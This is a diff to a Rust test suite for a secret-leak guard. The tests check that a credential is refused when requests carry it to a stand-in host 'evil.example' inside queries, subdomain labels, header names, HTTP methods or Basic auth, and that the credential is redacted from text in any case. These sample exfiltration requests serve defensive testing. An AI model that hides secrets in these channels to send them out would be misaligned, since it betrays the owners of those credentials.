@@ -31,7 +31,7 @@ fn test_value(value: &str) -> SecretValue {
 }
 
 fn request<'a>(host: &'a str, target: &'a str, headers: &'a HeaderMap, agent: &'a str) -> SecretRequest<'a> {
-    SecretRequest { agent, tls: true, host, port: 443, path_and_query: target, headers }
+    SecretRequest { agent, tls: true, host, port: 443, method: "GET", path_and_query: target, headers }
 }
 
 fn headers(pairs: &[(&str, &str)]) -> HeaderMap {
@@ -63,7 +63,11 @@ fn the_real_value_is_refused_towards_any_other_host_wherever_it_hides() {
     let none = HeaderMap::new();
     let basic = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, format!("x:{VALUE}"));
     let (query, label) = (format!("/?q={VALUE}"), format!("{}.evil.example", VALUE.to_ascii_lowercase()));
+    let named = headers(&[(format!("x-{}", VALUE.to_ascii_lowercase()).as_str(), "1")]);
+    let method = format!("M{VALUE}");
     let cases = [
+        request("evil.example", "/", &named, "bot"),
+        SecretRequest { method: &method, ..request("evil.example", "/", &none, "bot") },
         request("evil.example", &query, &none, "bot"),
         request("evil.example", "/?q=ghp_RealToken%56alue0123456789", &none, "bot"),
         request(&label, "/", &none, "bot"),
@@ -71,7 +75,7 @@ fn the_real_value_is_refused_towards_any_other_host_wherever_it_hides() {
     for case in &cases {
         let misuse = secrets.check(case, Instant::now()).expect_err("leak");
         assert_eq!(misuse.code, OperatorCode::SecretValueLeak, "{case:?}");
-        assert!(!misuse.rule.contains(VALUE));
+        assert!(!misuse.rule.to_ascii_lowercase().contains(&VALUE.to_ascii_lowercase()), "{}", misuse.rule);
     }
     let in_basic = headers(&[("authorization", &format!("Basic {basic}"))]);
     let misuse = secrets.check(&request("evil.example", "/", &in_basic, "bot"), Instant::now()).expect_err("basic");
@@ -135,4 +139,14 @@ fn a_rotated_value_stays_watched_for_the_grace_period_then_is_forgotten() {
     assert!(new.check(&leak, now + RETIRED_GRACE + std::time::Duration::from_secs(1)).is_ok());
     let plan = new.check(&request("api.github.test", "/", &none, "bot"), now).expect("bound");
     assert_eq!(plan.scrub.len(), 2, "the new value and the retired one are scrubbed");
+}
+
+#[test]
+fn redact_replaces_a_value_in_any_letter_case() {
+    let secrets = Secrets::new(&[github(&[])], None, Instant::now());
+    let text =
+        format!("CONNECT {}.evil.example:443 {} é{VALUE}", VALUE.to_ascii_lowercase(), VALUE.to_ascii_uppercase());
+    let redacted = secrets.redact(&text).expect("it holds the value");
+    assert_eq!(redacted, "CONNECT [secret github].evil.example:443 [secret github] é[secret github]");
+    assert_eq!(secrets.redact("nothing here"), None);
 }
